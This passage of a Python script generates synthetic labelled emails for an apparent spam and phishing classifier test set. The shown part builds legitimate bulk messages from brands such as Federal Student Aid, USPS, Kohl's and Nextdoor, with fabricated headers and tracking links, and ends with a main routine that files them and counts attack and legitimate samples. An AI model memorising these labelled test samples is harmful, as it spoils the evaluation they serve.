              'is.</li><li>Use the Loan Simulator to compare repayment plans.</li><li>Update your contact '
              'information with your servicer.</li></ul>'
              '<p><b>Watch out for scams.</b> You never have to pay for help with your federal student aid. '
              'Don&#39;t share your FSA ID with anyone.</p>')
        + row(btn(lk, "Visit StudentAid.gov", "#0b4778"))
        + row('<p style="font-size:11px;color:#666;">This email was sent to brianna.cole.97@gmail.com using '
              'GovDelivery Communications Cloud on behalf of: Federal Student Aid, 830 First Street, NE, '
              f'Washington, DC 20202. <a href="{lk}x" style="color:#666;">Manage subscriptions</a></p>'),
        title="Federal Student Aid")
    plain = ("Federal Student Aid\n\nYour student loan payments start soon\n\nYour grace period is ending. Your first "
             "payment will be due in about 60 days, and your loan servicer will contact you with the exact amount.\n\n"
             "Watch out for scams. You never have to pay for help with your federal student aid. Don't share your FSA "
             f"ID with anyone.\n\nVisit StudentAid.gov: {lk}\n")
    headers = "\n".join([
        f"Date: {fmt(when)}",
        "From: Federal Student Aid <studentaid@info.studentaid.gov>",
        "Reply-To: noreply@studentaid.gov",
        f"To: {rcpt}",
        f"Message-ID: <{num(seed + 'mid', 10000000, 99999999)}.{num(seed + 'mid2', 1000000, 9999999)}@public.govdelivery.com>",
        "Subject: Your student loan payments start soon",
        "MIME-Version: 1.0",
        *list_unsub("", f"https://public.govdelivery.com/accounts/USED/subscriber/one_click_unsubscribe?verification={hexs(seed + 'v', 40)}"),
        f"X-Accountcode: USED",
        f"X-Bulletin-Id: {num(seed + 'bid', 10000000, 99999999)}",
        "Sender: Federal Student Aid <studentaid@info.studentaid.gov>"])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="info.studentaid.gov", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("bulk", "bulk", "studentaid-repayment-govdelivery", raw,
        "Genuine Federal Student Aid bulletin through GovDelivery (lnks.gd tracking, studentaid.gov DKIM) "
        "reminding a borrower that repayment starts and warning about paid-help scams.")


@sample
def b_pch_entry_confirmed():
    seed = "b-pch"
    rcpt = "betty.lou.harmon@aol.com"
    when = T("2025-03-20 07:44:10 -0400")
    out = sfmc_out("email", "pch.com", rcpt, when, seed, selector="200608")
    sh = sfmc_headers(seed, "email", "pch.com")
    c = sh["click"]
    html = shell(
        row('<p style="font-size:24px;color:#0046ad;margin:0;"><b>Publishers Clearing House</b></p>', "22px 30px 6px")
        + row('<p style="font-size:20px;"><b>Betty, Your Entry Is Confirmed for SuperPrize Giveaway No. 11700!</b></p>'
              '<p>Thank you for entering! Your entry has been recorded for the chance to win $5,000.00 A Week '
              '&quot;Forever&quot;. Come back tomorrow to enter again and play free games on PCHgames.</p>'
              '<p style="background:#fff7d6;padding:10px;font-size:13px;">Remember: PCH never asks winners to pay '
              'any fee to collect a prize. Winners are notified in person by the Prize Patrol or by certified mail.'
              '</p>')
        + row(btn(f"{c}/?{sh['qs']}", "Enter Again Tomorrow", "#0046ad"))
        + row('<p style="font-size:10px;color:#777;">NO PURCHASE NECESSARY TO ENTER OR WIN. A PURCHASE WILL NOT '
              'IMPROVE YOUR CHANCES OF WINNING. See Official Rules at pch.com/rules. '
              f'<a href="{sh["unsub"]}" style="color:#777;">Unsubscribe</a><br/>Publishers Clearing House, '
              '300 Jericho Quadrangle, Suite 200, Jericho, NY 11753</p>'),
        title="PCH")
    plain = ("Betty, Your Entry Is Confirmed for SuperPrize Giveaway No. 11700!\n\nThank you for entering! Come back "
             "tomorrow to enter again.\n\nRemember: PCH never asks winners to pay any fee to collect a prize.\n\n"
             f"Enter Again: {c}/?{sh['qs']}\n\nNO PURCHASE NECESSARY TO ENTER OR WIN.\nUnsubscribe: {sh['unsub']}\n")
    headers = "\n".join([
        'From: "PCH" <PCH@email.pch.com>',
        f"To: <{rcpt}>",
        "Subject: Betty, Your Entry Is Confirmed for SuperPrize No. 11700!",
        f"Date: {fmt(when)}",
        "MIME-Version: 1.0",
        *list_unsub(sh["leave"], sh["unsub"]),
        sh["job"], f"Message-ID: {sh['msgid']}", sh["sfmc"]])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="email.pch.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("sfmc", seed)), seed=seed)
    add("bulk", "bulk", "pch-entry-confirmed-sfmc", raw,
        "Genuine Publishers Clearing House entry confirmation from email.pch.com via Salesforce Marketing Cloud, "
        "with official-rules text and a reminder that winners never pay fees.")


@sample
def b_usps_informed_delivery():
    seed = "b-usps"
    rcpt = "k.henderson.home@icloud.com"
    when = T("2025-11-13 08:04:51 -0600")
    out = sfmc_out("informeddelivery", "usps.com", rcpt, when, seed, selector="200608",
                   bounce_dom="email.informeddelivery.usps.com")
    out.helo = out.rdns = f"mta{num(seed + 'mta', 1, 9)}.email.informeddelivery.usps.com"
    out.sigs[0].d = "email.informeddelivery.usps.com"
    base = "https://informeddelivery.usps.com/box/pages/secure/"
    pieces = "".join(
        f'<tr><td style="padding:8px 30px;"><img src="https://informeddelivery.usps.com/box/pages/mailpiece/'
        f'image?pid={digits(seed + str(k), 12)}" width="460" alt="Mailpiece image {k + 1}" style="border:1px solid #ccc;" />'
        f'</td></tr>\n' for k in range(3))
    html = shell(
        row('<p style="font-size:20px;color:#333366;margin:0;"><b>USPS Informed Delivery&reg;</b></p>'
            '<p style="margin:0;">Daily Digest</p>', "22px 30px 8px")
        + row('<p><b>COMING TO YOUR MAILBOX SOON</b><br/>Thursday, November 13, 2025</p><p>3 mailpieces and '
              '1 package are expected today.</p>')
        + pieces
        + row(f'<p><b>Package:</b> 9261 2901 2267 41{digits(seed + "pk", 8)} - Expected Delivery Today. '
              f'<a href="{base}DashboardAction_input?selectedDate=11%2F13%2F2025">See dashboard</a></p>'
              '<p style="font-size:11px;color:#666;">The mailpiece images are provided for your convenience. '
              'USPS will never ask for a fee by e-mail or text to redeliver a package. '
              f'<a href="{base}ProfileAction_input" style="color:#666;">Manage notifications</a><br/>'
              '&copy; 2025 United States Postal Service, 475 L&#39;Enfant Plaza SW, Washington, DC 20260</p>'),
        title="Informed Delivery")
    plain = ("USPS Informed Delivery Daily Digest\n\nCOMING TO YOUR MAILBOX SOON - Thursday, November 13, 2025\n\n"
             "3 mailpieces and 1 package are expected today.\n\nUSPS will never ask for a fee by e-mail or text to "
             "redeliver a package.\n")
    headers = "\n".join([
        'From: "USPS Informed Delivery" <USPSInformeddelivery@email.informeddelivery.usps.com>',
        f"To: <{rcpt}>",
        "Subject: Your Daily Digest for Thu, 11/13 is ready to view",
        f"Date: {fmt(when)}",
        "MIME-Version: 1.0",
        *list_unsub("", f"{base}ProfileAction_input?unsub={hexs(seed + 'un', 30)}", one_click=False),
        f"Message-ID: {sfmc_headers(seed, 'x', 'y')['msgid']}"])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="email.informeddelivery.usps.com",
               policy="REJECT", headers=headers, body=alt(plain, html, bnd("sfmc", seed)), seed=seed)
    add("bulk", "bulk", "usps-informed-delivery-digest", raw,
        "Genuine USPS Informed Delivery daily digest from email.informeddelivery.usps.com with mailpiece images "
        "and a package number, links only to informeddelivery.usps.com.")


@sample
def b_univision_es():
    seed = "b-univ"
    rcpt = "jose.luis.barrera@hotmail.com"
    when = T("2025-05-30 07:15:33 -0500")
    out = sendgrid_out("univision.com", rcpt, when, seed, em="email.univision.com", selector="s1")
    ct = f"https://email.univision.com/ls/click?upn=u001."
    notas = [("Temporada de huracanes 2025: lo que debe saber", "Los pronosticadores esperan una temporada más activa "
              "de lo normal. Prepare su kit de emergencia."),
             ("Cómo evitar estafas de peajes por mensaje de texto", "Las autoridades advierten sobre mensajes falsos "
              "de SunPass, E-ZPass y TxTag que piden pagos pendientes."),
             ("Liga MX: resultados de la final", "Repase los mejores goles y momentos del campeonato.")]
    html = shell(
        row('<p style="font-size:24px;margin:0;"><b>Univision Noticias</b></p><p style="color:#777;margin:0;">'
            'Boletín de la mañana</p>', "22px 30px 8px")
        + "".join(row(f'<p style="font-size:17px;margin:0;"><b><a href="{ct}{url64(seed + t, 90)}" '
                      f'style="color:#000;text-decoration:none;">{t}</a></b></p><p>{d}</p>') for t, d in notas)
        + row('<p style="font-size:11px;color:#777;">Recibe este correo porque se suscribió a los boletines de '
              f'Univision. <a href="{ct}{url64(seed + "unsub", 90)}" style="color:#777;">Cancelar suscripción</a>'
              '<br/>TelevisaUnivision, 605 Third Avenue, New York, NY 10158</p>'
              f'<img src="https://email.univision.com/wf/open?upn=u001.{url64(seed + "open", 120)}" width="1" '
              'height="1" alt="" />'),
        title="Univision Noticias", bg="#ffffff")
    plain = "Univision Noticias - Boletín de la mañana\n\n" + "\n\n".join(f"{t}\n{d}" for t, d in notas) + \
        "\n\nTelevisaUnivision, 605 Third Avenue, New York, NY 10158\n"
    headers = "\n".join([
        "From: Univision Noticias <noticias@email.univision.com>",
        "Mime-Version: 1.0",
        f"Date: {fmt(when)}",
        f"Subject: {enc('Huracanes 2025, estafas de peajes y la final de la Liga MX', 'Q')}",
        *list_unsub(f"unsubscribe-{hexs(seed + 'lu', 20)}@email.univision.com",
                    f"https://email.univision.com/asm/unsubscribe/?user_id={num(seed + 'uid', 1000000, 9999999)}&data={url64(seed + 'lu2', 60)}"),
        f"To: {rcpt}",
        f"Message-ID: {sendgrid_msgid(seed)}",
        f"X-SG-EID: \n =?us-ascii?Q?u001=2E{alnum(seed + 'eid', 40)}?="])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="email.univision.com", policy="NONE",
               headers=headers, body=alt(plain, html, bnd("sendgrid", seed)), seed=seed)
    add("bulk", "bulk", "univision-boletin-es", raw,
        "Genuine Spanish-language Univision Noticias morning newsletter through SendGrid with the brand's "
        "authenticated email.univision.com domain and click tracking.")


@sample
def b_nextdoor_digest():
    seed = "b-nd"
    rcpt = "crystal.mendenhall@yahoo.com"
    when = T("2025-05-21 17:40:08 -0700")
    out = sendgrid_out("rs.email.nextdoor.com", rcpt, when, seed, em="rs.email.nextdoor.com", selector="s1")
    out.sigs[0].d = "email.nextdoor.com"
    lk = "https://us1.email.nextdoor.com/ls/click?upn=u001."
    posts = [("Lost dog near Rosewood Park", "Brown lab mix, answers to Biscuit, blue collar. Last seen on Alder Ave "
              "around 4pm.", "Dana K. · Rosewood"),
             ("Recommendations for a roofer?", "We had some shingles blow off in last week's wind. Anyone used a local "
              "company they liked?", "Marco P. · Hillview"),
             ("Free moving boxes", "About 30 boxes in good shape, on my porch on Linden St. Take what you need!",
              "Elaine W. · Rosewood")]
    html = shell(
        row('<p style="font-size:24px;color:#8ed500;margin:0;"><b>nextdoor</b></p><p style="margin:0;color:#555;">'
            'Trending in Rosewood</p>', "22px 30px 8px")
        + "".join(row(f'<p style="margin:0;"><b><a href="{lk}{url64(seed + t, 90)}" style="color:#1b8751;'
                      f'text-decoration:none;">{t}</a></b></p><p style="margin:4px 0;">{d}</p>'
                      f'<p style="font-size:12px;color:#888;margin:0;">{a}</p>') for t, d, a in posts)
        + row('<p style="font-size:11px;color:#888;">This message is intended for crystal.mendenhall@yahoo.com. '
              f'<a href="{lk}{url64(seed + "unsub", 90)}" style="color:#888;">Unsubscribe</a> or adjust your email '
              'settings.<br/>Nextdoor, 420 Taylor Street, San Francisco, CA 94102</p>'),
        title="Nextdoor", bg="#ffffff")
    plain = "Trending in Rosewood\n\n" + "\n\n".join(f"{t}\n{d}\n{a}" for t, d, a in posts) + \
        "\n\nNextdoor, 420 Taylor Street, San Francisco, CA 94102\n"
    headers = "\n".join([
        "From: Nextdoor Rosewood <reply@rs.email.nextdoor.com>",
        "Mime-Version: 1.0",
        f"Date: {fmt(when)}",
        f"Subject: {enc('Lost dog near Rosewood Park · Recommendations for a roofer?', 'Q')}",
        *list_unsub(f"unsub-{hexs(seed + 'lu', 20)}@rs.email.nextdoor.com",
                    f"https://nextdoor.com/unsubscribe/v2/?tkn={url64(seed + 'tk', 60)}"),
        f"To: {rcpt}",
        f"Message-ID: {sendgrid_msgid(seed)}",
        f"X-SG-EID: \n =?us-ascii?Q?u001=2E{alnum(seed + 'eid', 40)}?=",
        f"X-ND-Campaign: digest_trending"])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="rs.email.nextdoor.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("sendgrid", seed)), seed=seed)
    add("bulk", "bulk", "nextdoor-trending-digest", raw,
        "Genuine Nextdoor neighborhood digest (lost dog, roofer recommendations, free boxes) through SendGrid from "
        "rs.email.nextdoor.com, aligned DKIM and one-click unsubscribe.")


@sample
def b_kohls_sale():
    seed = "b-kohl"
    rcpt = "t.blackwell1972@hotmail.com"
    when = T("2025-10-31 09:00:14 -0500")
    out = sparkpost_out("s.kohls.com", "bounce.s.kohls.com", rcpt, when, seed, selector="kohls1")
    lk = "https://links.s.kohls.com/els/v2/"
    html = shell(
        row('<p style="font-size:30px;color:#000;margin:0;letter-spacing:2px;"><b>KOHL&#39;S</b></p>', "22px 30px 6px")
        + row('<p style="font-size:28px;color:#859b2e;margin:0;"><b>Early Black Friday: 15% off</b></p>'
              '<p>Use code <b>SAVEBIG15</b> through Sunday. Plus, earn $10 Kohl&#39;s Cash for every $50 you spend.'
              '</p><p style="font-size:13px;color:#555;">Kohl&#39;s Rewards members: you have <b>$5 in rewards</b> '
              'available now.</p>')
        + row(btn(f"{lk}{url64(seed + 's1', 30)}/{url64(seed + 's2', 60)}", "SHOP NOW", "#000000"))
        + row('<p style="font-size:10px;color:#777;">Offer valid 10/31-11/2/2025. Exclusions apply. See kohls.com '
              f'for details. <a href="{lk}{url64(seed + "u1", 30)}/{url64(seed + "u2", 60)}" style="color:#777;">'
              'Unsubscribe</a><br/>Kohl&#39;s, N56 W17000 Ridgewood Dr, Menomonee Falls, WI 53051</p>'
              f'<img src="https://links.s.kohls.com/e/eo?_t={hexs(seed + "t", 32)}&_m={hexs(seed + "m", 32)}&_e='
              f'{url64(seed + "e", 40)}" width="1" height="1" alt="" />'),
        title="Kohl's", bg="#ffffff", preheader="Plus Kohl's Cash and your rewards")
    plain = ("KOHL'S\n\nEarly Black Friday: 15% off with code SAVEBIG15 through Sunday. Plus, earn $10 Kohl's Cash for "
             f"every $50 you spend.\n\nSHOP NOW: {lk}{url64(seed + 's1', 30)}/{url64(seed + 's2', 60)}\n\n"
             "Offer valid 10/31-11/2/2025. Exclusions apply.\n")
    headers = "\n".join([
        "From: Kohl's <Kohls@s.kohls.com>",
        f"To: {rcpt}",
        f"Subject: {enc('🎃 Early Black Friday starts NOW: 15% off + Kohl’s Cash', 'B')}",
        "MIME-Version: 1.0",
        f"Message-ID: <{hexs(seed + 'mid', 8)}.{digits(seed + 'mid2', 5)}.{digits(seed + 'mid3', 3)}@bounce.s.kohls.com>",
        f"Date: {fmt(when)}",
        *list_unsub(f"unsub-{hexs(seed + 'lu', 24)}@bounce.s.kohls.com",
                    f"https://links.s.kohls.com/e/u?_t={hexs(seed + 'lu2', 32)}")])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="s.kohls.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("sendgrid", seed)), seed=seed)
    add("bulk", "bulk", "kohls-early-black-friday", raw,
        "Genuine Kohl's promotional e-mail from s.kohls.com through an ESP (Iterable-style links.s.kohls.com "
        "tracking, SparkPost delivery), discount code and rewards balance, one-click unsubscribe.")


# ============================================================================================
# main
# ============================================================================================

# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind):
# transactional notices from brands' bulk senders are bulk mail.
REFILED: dict[str, str] = {
    "b30-legit-fidelity-quarterly-statement-ready": "bulk",
    "b30-legit-capitalone-statement-ready-sfmc": "bulk",
    "b30-legit-xfinity-bill-ready": "bulk",
    "b30-legit-duke-energy-paperless-bill": "bulk",
    "b30-legit-amazon-shipped-notification": "bulk",
    "b30-legit-norton-autorenewal-reminder": "bulk",
    "b30-legit-kaiser-appointment-reminder": "bulk",
    "b30-legit-cvs-prescription-ready": "bulk",
    "b30-legit-walgreens-receta-lista-es": "bulk",
}


def main() -> None:
    # files.iso_image() stamps the volume from a local-time timestamp: pin the zone so output never varies
    os.environ["TZ"] = "UTC"
    time.tzset()
    for func in SAMPLE_FUNCS:
        func()
    for old in sorted(MAIL.glob("*/b30-*.eml")):
        old.unlink()
    lines = []
    counts: dict[str, int] = {}
    for cat, kind, slug, raw, description in SAMPLES:
        stem = f"b30-{kind}-{slug}"
        check(raw, stem)
        folder = REFILED.get(stem, cat)
        path = MAIL / folder / f"{stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {description}")
        counts[folder] = counts.get(folder, 0) + 1
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    attacks = sum(1 for s in SAMPLES if s[1] == "phish")
    legit = sum(1 for s in SAMPLES if s[1] != "phish")
    print(f"wrote {len(SAMPLES)} messages: " + ", ".join(f"{k}={v}" for k, v in sorted(counts.items())))
    print(f"attacks={attacks} legitimate={legit}")
    assert attacks == 50 and legit == 25, (attacks, legit)


if __name__ == "__main__":
    main()
